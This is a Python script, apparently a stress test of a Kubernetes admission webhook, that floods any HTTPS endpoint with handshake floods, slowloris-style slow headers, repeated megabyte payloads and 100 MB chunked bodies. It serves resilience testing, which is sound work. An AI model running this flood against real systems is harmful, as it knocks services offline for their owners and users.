"""What a hostile pod does to a webhook: standard library only, one file, so that it runs in any Python image.

    python flood.py https://injector-webhook.injector-system.svc/mutate/pods --seconds 20 --connections 100

Opens connections as fast as it can: some shake hands and go, some dawdle over their headers, some send reviews of a
megabyte one after the other, and some send 100 MB. Prints what it achieved.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import ssl
import threading
import time
from collections import Counter
from urllib.parse import urlsplit

CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE


class Flood:
    """The target, when to stop, and what was achieved."""

    def __init__(self, url: str, seconds: float, source: str) -> None:
        parts = urlsplit(url)
        self.address = (parts.hostname or "", parts.port or 443)
        self.head = f"POST {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\n".encode()
        self.until = time.monotonic() + seconds
        self.source = (source, 0) if source else None
        self.achieved: Counter[str] = Counter()

    def connect(self) -> ssl.SSLSocket:
        """One connection with its handshake done."""
        plain = socket.create_connection(self.address, timeout=5, source_address=self.source)
        return CONTEXT.wrap_socket(plain)

    def repeat(self, kind: str) -> None:
        """Do one kind of harm until the time is over."""
        while time.monotonic() < self.until:
            try:
                getattr(self, kind)()
                self.achieved[kind] += 1
            except OSError:
                self.achieved[f"{kind} refused"] += 1

    def handshakes(self) -> None:
        """Shake hands and go."""
        self.connect().close()

    def connections(self) -> None:
        """Open, say nothing, and go."""
        socket.create_connection(self.address, timeout=5, source_address=self.source).close()

    def slow(self) -> None:
        """A header a byte at a time, until thrown out."""
        with self.connect() as connection:
            connection.sendall(self.head)
            while time.monotonic() < self.until:
                connection.sendall(b"X")
                time.sleep(0.2)

    def large(self) -> None:
        """Reviews of a megabyte that parse, one after the other."""
        entries = ",".join(f'{{"name":"V{index}","value":"{index}"}}' for index in range(30_000))
        pod = f'{{"metadata":{{"name":"x"}},"spec":{{"containers":[{{"name":"a","image":"b","env":[{entries}]}}]}}}}'
        review = (
            '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u","namespace":"default",'
            f'"kind":{{"group":"","version":"v1","kind":"Pod"}},"operation":"CREATE","object":{pod}}}}}'
        ).encode()
        with self.connect() as connection:
            while time.monotonic() < self.until:
                connection.sendall(self.head + b"Content-Length: %d\r\n\r\n" % len(review) + review)
                if not connection.recv(65536):
                    return
                self.achieved["large reviews"] += 1

    def endless(self) -> None:
        """100 MB in chunks, or as much as is taken."""
        with self.connect() as connection:
            connection.sendall(self.head + b"Transfer-Encoding: chunked\r\n\r\n")
            chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
            for _ in range(1600):
                connection.sendall(chunk)
                self.achieved["endless bytes"] += 65536


def main() -> None:
    """Parse, flood, print."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--connections", type=int, default=100, help="how many at once, shared by the kinds of harm")
    parser.add_argument("--source", default="", help="the local address to come from")
    chosen = parser.parse_args()
    flood = Flood(chosen.url, chosen.seconds, chosen.source)
    kinds = ("handshakes", "connections", "slow", "large", "endless")
    threads = [
        threading.Thread(target=flood.repeat, args=(kinds[index % len(kinds)],), daemon=True)
        for index in range(chosen.connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        with contextlib.suppress(RuntimeError):
            thread.join(timeout=max(0.0, flood.until + 6 - time.monotonic()))
    print(json.dumps(dict(sorted(flood.achieved.items()))))


if __name__ == "__main__":
    main()
